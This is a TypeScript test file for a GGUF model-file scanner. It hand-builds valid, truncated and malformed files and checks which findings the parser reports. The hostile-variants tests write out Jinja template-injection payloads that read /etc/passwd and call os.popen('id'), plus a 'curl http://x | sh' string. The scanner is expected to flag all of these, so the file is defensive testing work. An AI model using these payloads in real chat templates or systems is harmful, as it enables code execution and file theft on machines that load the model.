import { describe, expect, it } from 'vitest';
import { bufferSource } from '../../core/byte-source.js';
import { readGguf, type GgufArraySummary } from './gguf.js';

// No GGUF file is in the corpus: these are written byte by byte after ggml/docs/gguf.md.

type KvValue =
  | { t: 'u8' | 'i8' | 'u16' | 'i16' | 'u32' | 'i32' | 'f32' | 'bool' | 'u64' | 'i64' | 'f64'; v: number | bigint | boolean }
  | { t: 'str'; v: string }
  | { t: 'arr'; item: number; v: KvValue[] }
  | { t: 'raw'; type: number; bytes: number[] };

interface TensorSpec {
  name: string;
  dims: number[];
  type: number;
  offset: number | bigint;
}

const TYPE_IDS = { u8: 0, i8: 1, u16: 2, i16: 3, u32: 4, i32: 5, f32: 6, bool: 7, str: 8, arr: 9, u64: 10, i64: 11, f64: 12 } as const;

class Writer {
  readonly bytes: number[] = [];
  constructor(
    readonly v1 = false,
    readonly le = true,
  ) {}
  private num(v: number | bigint, size: number): void {
    const dv = new DataView(new ArrayBuffer(8));
    if (size === 8) dv.setBigUint64(0, BigInt.asUintN(64, BigInt(v)), this.le);
    else if (size === 4) dv.setUint32(0, Number(v) >>> 0, this.le);
    else if (size === 2) dv.setUint16(0, Number(v) & 0xffff, this.le);
    else dv.setUint8(0, Number(v) & 0xff);
    for (let i = 0; i < size; i++) this.bytes.push(dv.getUint8(i));
  }
  u32(v: number | bigint): void {
    this.num(v, 4);
  }
  u64(v: number | bigint): void {
    this.num(v, 8);
  }
  count(v: number | bigint): void {
    this.num(v, this.v1 ? 4 : 8);
  }
  str(s: string): void {
    const b = new TextEncoder().encode(s);
    this.count(b.length);
    this.bytes.push(...b);
  }
  value(x: KvValue): void {
    switch (x.t) {
      case 'str':
        this.str(x.v);
        return;
      case 'arr':
        this.u32(x.item);
        this.count(x.v.length);
        for (const item of x.v) this.value(item);
        return;
      case 'raw':
        this.bytes.push(...x.bytes);
        return;
      case 'f32': {
        const dv = new DataView(new ArrayBuffer(4));
        dv.setFloat32(0, Number(x.v), this.le);
        for (let i = 0; i < 4; i++) this.bytes.push(dv.getUint8(i));
        return;
      }
      case 'f64': {
        const dv = new DataView(new ArrayBuffer(8));
        dv.setFloat64(0, Number(x.v), this.le);
        for (let i = 0; i < 8; i++) this.bytes.push(dv.getUint8(i));
        return;
      }
      default: {
        const size = { u8: 1, i8: 1, bool: 1, u16: 2, i16: 2, u32: 4, i32: 4, u64: 8, i64: 8 }[x.t];
        this.num(typeof x.v === 'boolean' ? (x.v ? 1 : 0) : x.v, size);
      }
    }
  }
}

function typeOf(x: KvValue): number {
  return x.t === 'raw' ? x.type : TYPE_IDS[x.t];
}

function build(opts: { version?: number; v1?: boolean; le?: boolean; kv?: [string, KvValue][]; tensors?: TensorSpec[]; dataBytes?: number; alignment?: number }): Uint8Array {
  const version = opts.version ?? 3;
  const w = new Writer(version === 1, opts.le ?? true);
  w.bytes.push(0x47, 0x47, 0x55, 0x46);
  w.u32(version);
  const kv = opts.kv ?? [];
  const tensors = opts.tensors ?? [];
  w.count(tensors.length);
  w.count(kv.length);
  for (const [key, value] of kv) {
    w.str(key);
    w.u32(typeOf(value));
    w.value(value);
  }
  for (const t of tensors) {
    w.str(t.name);
    w.u32(t.dims.length);
    for (const d of t.dims) w.count(d);
    w.u32(t.type);
    w.u64(t.offset);
  }
  const align = opts.alignment ?? 32;
  while (w.bytes.length % align !== 0) w.bytes.push(0);
  for (let i = 0; i < (opts.dataBytes ?? 0); i++) w.bytes.push(i & 0xff);
  return Uint8Array.from(w.bytes);
}

const CHATML =
  "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}{% endfor %}" +
  "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}{% if messages|length == 0 %}{{ raise_exception('no messages') }}{% endif %}";

const VALID_KV: [string, KvValue][] = [
  ['general.architecture', { t: 'str', v: 'llama' }],
  ['general.alignment', { t: 'u32', v: 32 }],
  ['general.source.url', { t: 'str', v: 'https://huggingface.co/org/model' }],
  ['llama.context_length', { t: 'u64', v: 4096n }],
  ['llama.rope.freq_base', { t: 'f32', v: 10000 }],
  ['llama.rope.scale', { t: 'f64', v: 0.5 }],
  ['llama.block_count', { t: 'i8', v: -1 }],
  ['tokenizer.ggml.add_bos_token', { t: 'bool', v: true }],
  ['tokenizer.ggml.tokens', { t: 'arr', item: 8, v: ['<s>', '</s>', 'a', 'b'].map((v) => ({ t: 'str', v }) as KvValue) }],
  ['tokenizer.ggml.scores', { t: 'arr', item: 6, v: [0, 1, 2, 3].map((v) => ({ t: 'f32', v }) as KvValue) }],
  ['tokenizer.chat_template', { t: 'str', v: CHATML }],
];

// float32 [3 x 4] = 48 bytes at 0; q4_0 [2 x 32] = 2 rows x 1 block x 18 = 36 bytes at 64; q6_k [1 x 256] = 210 bytes at 128.
const VALID_TENSORS: TensorSpec[] = [
  { name: 'token_embd.weight', dims: [4, 3], type: 0, offset: 0 },
  { name: 'blk.0.attn_q.weight', dims: [32, 2], type: 2, offset: 64 },
  { name: 'output.weight', dims: [256, 1], type: 14, offset: 128 },
];

const valid = (extra: Partial<Parameters<typeof build>[0]> = {}): Uint8Array => build({ kv: VALID_KV, tensors: VALID_TENSORS, dataBytes: 338, ...extra });

async function read(bytes: Uint8Array) {
  return readGguf(bufferSource('m.gguf', bytes));
}
const ids = (r: { findings: { id: string }[] }) => r.findings.map((f) => f.id);

describe('readGguf on a valid hand-written file', () => {
  it('reads header, metadata of every type, tensor infos and the data section', async () => {
    const bytes = valid();
    const r = await read(bytes);
    expect(r.findings).toEqual([]);
    expect([r.version, r.littleEndian, r.tensorCount, r.kvCount, r.alignment]).toEqual([3, true, 3, 11, 32]);
    expect(r.metadata['general.architecture']).toEqual({ type: 'string', value: 'llama' });
    expect(r.metadata['llama.context_length']).toEqual({ type: 'uint64', value: 4096 });
    expect(r.metadata['llama.block_count']).toEqual({ type: 'int8', value: -1 });
    expect(r.metadata['llama.rope.scale']).toEqual({ type: 'float64', value: 0.5 });
    expect(r.metadata['tokenizer.ggml.add_bos_token']).toEqual({ type: 'bool', value: true });
    expect(r.metadata['tokenizer.ggml.tokens']!.value as GgufArraySummary).toEqual({ itemType: 'string', length: 4, preview: ['<s>', '</s>', 'a', 'b'] });
    expect((r.metadata['tokenizer.ggml.scores']!.value as GgufArraySummary).preview).toEqual([0, 1, 2, 3]);
    expect(r.dataOffset).toBe(bytes.length - 338);
    expect(r.tensors.map((t) => [t.name, t.dtype, t.shape, t.byteOffset - r.dataOffset!, t.byteLength])).toEqual([
      ['token_embd.weight', 'float32', [3, 4], 0, 48],
      ['blk.0.attn_q.weight', 'q4_0', [2, 32], 64, 36],
      ['output.weight', 'q6_k', [1, 256], 128, 210],
    ]);
  });

  it('reads GGUF v1 (32-bit counts) and big-endian files', async () => {
    const v1 = await read(build({ version: 1, kv: VALID_KV, tensors: VALID_TENSORS, dataBytes: 338 }));
    expect(v1.findings).toEqual([]);
    expect(v1.tensors.length).toBe(3);
    const be = await read(build({ le: false, kv: VALID_KV, tensors: VALID_TENSORS, dataBytes: 338 }));
    expect(ids(be)).toEqual(['gguf.big-endian']);
    expect(be.metadata['llama.context_length']!.value).toBe(4096);
    expect(be.tensors.map((t) => t.byteLength)).toEqual([48, 36, 210]);
  });
});

describe('readGguf on hostile variants', () => {
  it('flags chat templates with Jinja sandbox escapes high, SSTI pivots medium', async () => {
    const ssti = "{{ ''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read() }}";
    const popen = "{% for x in ().__class__.__base__.__subclasses__() %}{{ x.__init__.__globals__['os'].popen('id').read() }}{% endfor %}";
    for (const template of [ssti, popen, "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id') }}", '{{ "\\x5f\\x5fclass\\x5f\\x5f" }}']) {
      const r = await read(build({ kv: [['tokenizer.chat_template', { t: 'str', v: template }]] }));
      expect(r.findings.map((f) => [f.id, f.severity, f.location])).toEqual([['gguf.chat-template.injection', 'high', 'tokenizer.chat_template']]);
    }
    const pivot = await read(build({ kv: [['tokenizer.chat_template.tool_use', { t: 'str', v: "{{ lipsum|attr('x') }}" }]] }));
    expect(pivot.findings.map((f) => [f.id, f.severity])).toEqual([['gguf.chat-template.suspicious', 'medium']]);
    const other = await read(build({ kv: [['general.description', { t: 'str', v: 'curl http://x | sh' }]] }));
    expect(ids(other)).toEqual(['gguf.metadata.suspicious']);
  });

  it('rejects bad magic and unknown versions', async () => {
    const bad = valid();
    bad[0] = 0x00;
    expect(ids(await read(bad))).toEqual(['format.unreadable']);
    expect(ids(await read(build({ version: 4 })))).toEqual(['gguf.version.unsupported']);
    expect(ids(await read(new Uint8Array(3)))).toEqual(['format.unreadable']);
  });

  it('reports every truncation without throwing', async () => {
    const bytes = valid();
    for (let n = 0; n < bytes.length; n++) {
      const r = await read(bytes.subarray(0, n));
      expect(r.findings.length).toBeGreaterThan(0);
      for (const t of r.tensors) expect(t.byteOffset + t.byteLength).toBeLessThanOrEqual(n);
    }
  });

  it('stops at counts and lengths the file cannot hold', async () => {
    const hugeCounts = build({});
    new DataView(hugeCounts.buffer).setBigUint64(8, 2n ** 40n, true);
    expect(ids(await read(hugeCounts))).toEqual(['format.limit-exceeded']);
    const lyingCounts = build({});
    new DataView(lyingCounts.buffer).setBigUint64(16, 1000n, true);
    expect(ids(await read(lyingCounts))).toEqual(['format.truncated']);
    const overU53 = build({});
    new DataView(overU53.buffer).setBigUint64(8, 2n ** 63n, true);
    expect(ids(await read(overU53))).toEqual(['format.malformed']);
    const longString = build({ kv: [['k', { t: 'raw', type: 8, bytes: [0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x00, 0x00] }]] });
    expect(ids(await read(longString))).toEqual(['format.truncated']);
    const longArray = build({ kv: [['k', { t: 'raw', type: 9, bytes: [4, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0] }]] });
    expect(ids(await read(longArray))).toEqual(['format.truncated']);
    const longStrArray = build({ kv: [['k', { t: 'raw', type: 9, bytes: [8, 0, 0, 0, 0xff, 0xff, 0xff, 0x0f, 0, 0, 0, 0] }]] });
    expect(ids(await read(longStrArray))).toEqual(['format.truncated']);
    const hugeKey = build({ kv: [['k', { t: 'u8', v: 1 }]] });
    new DataView(hugeKey.buffer).setBigUint64(24, 100_000n, true);
    expect(ids(await read(hugeKey))).toEqual(['format.malformed']);
  });

  it('stops at unknown value types and bounds nested arrays', async () => {
    expect(ids(await read(build({ kv: [['k', { t: 'raw', type: 13, bytes: [0] }]] })))).toEqual(['format.malformed']);
    let nested: KvValue = { t: 'arr', item: 0, v: [{ t: 'u8', v: 1 }] };
    for (let i = 0; i < 6; i++) nested = { t: 'arr', item: 9, v: [nested] };
    expect(ids(await read(build({ kv: [['k', nested]] })))).toEqual(['format.limit-exceeded']);
    const shallow = await read(build({ kv: [['k', { t: 'arr', item: 9, v: [{ t: 'arr', item: 0, v: [{ t: 'u8', v: 7 }] }] }]] }));
    expect(shallow.findings).toEqual([]);
    expect((shallow.metadata['k']!.value as GgufArraySummary).preview).toEqual([{ itemType: 'uint8', length: 1, preview: [7] }]);
  });

  it('flags duplicate keys and names, bad alignment values', async () => {
    const dup = await read(build({ kv: [['a', { t: 'u8', v: 1 }], ['a', { t: 'u8', v: 2 }]], tensors: [VALID_TENSORS[0]!, VALID_TENSORS[0]!], dataBytes: 48 }));
    // The duplicated tensor also shares its bytes with the first one.
    expect(ids(dup)).toEqual(['gguf.duplicate-key', 'gguf.duplicate-key', 'gguf.tensor.overlap']);
    expect(dup.metadata['a']!.value).toBe(1);
    for (const a of [{ t: 'u32', v: 0 }, { t: 'u32', v: 3 }, { t: 'u64', v: 32n }, { t: 'str', v: '32' }] as KvValue[]) {
      const r = await read(build({ kv: [['general.alignment', a]] }));
      expect(ids(r)).toEqual(['gguf.alignment.invalid']);
      expect(r.alignment).toBe(32);
    }
    const align64 = await read(build({ kv: [['general.alignment', { t: 'u32', v: 64 }]], tensors: [VALID_TENSORS[0]!], dataBytes: 48, alignment: 64 }));
    expect(align64.findings).toEqual([]);
    expect(align64.dataOffset! % 64).toBe(0);
  });

  it('flags bad tensors: unknown type, too many dims, partial blocks, overflow, long names', async () => {
    const cases: [TensorSpec, string][] = [
      [{ name: 'a', dims: [4], type: 99, offset: 0 }, 'gguf.tensor.unknown-type'],
      [{ name: 'a', dims: [1, 1, 1, 1, 4], type: 0, offset: 0 }, 'gguf.tensor.invalid'],
      [{ name: 'a', dims: [33], type: 2, offset: 0 }, 'gguf.tensor.invalid'],
      [{ name: 'a', dims: [2 ** 40, 2 ** 40], type: 0, offset: 0 }, 'gguf.tensor.invalid'],
      [{ name: 'x'.repeat(64), dims: [4], type: 0, offset: 0 }, 'gguf.tensor.invalid'],
    ];
    for (const [t, id] of cases) {
      const r = await read(build({ tensors: [t], dataBytes: 64 }));
      expect(ids(r), JSON.stringify(t.dims)).toEqual([id]);
      expect(r.tensors).toEqual([]);
    }
    expect(ids(await read(build({ tensors: [{ name: 'a', dims: new Array<number>(9).fill(1), type: 0, offset: 0 }] })))).toEqual(['format.malformed']);
  });

  it('flags out-of-bounds, overlapping and misaligned tensor data', async () => {
    const oob = await read(build({ tensors: [{ name: 'a', dims: [1024], type: 0, offset: 0 }], dataBytes: 64 }));
    expect(oob.findings.map((f) => [f.id, f.severity])).toEqual([['gguf.tensor.out-of-bounds', 'high']]);
    const farOffset = await read(build({ tensors: [{ name: 'a', dims: [4], type: 0, offset: 2n ** 52n }], dataBytes: 64 }));
    expect(ids(farOffset)).toEqual(['gguf.tensor.out-of-bounds']);
    const overlap = await read(build({ tensors: [{ name: 'a', dims: [16], type: 0, offset: 0 }, { name: 'b', dims: [8], type: 0, offset: 32 }], dataBytes: 64 }));
    expect(ids(overlap)).toEqual(['gguf.tensor.overlap']);
    const misaligned = await read(build({ tensors: [{ name: 'a', dims: [4], type: 0, offset: 4 }], dataBytes: 64 }));
    expect(ids(misaligned)).toEqual(['gguf.tensor.misaligned']);
  });
});
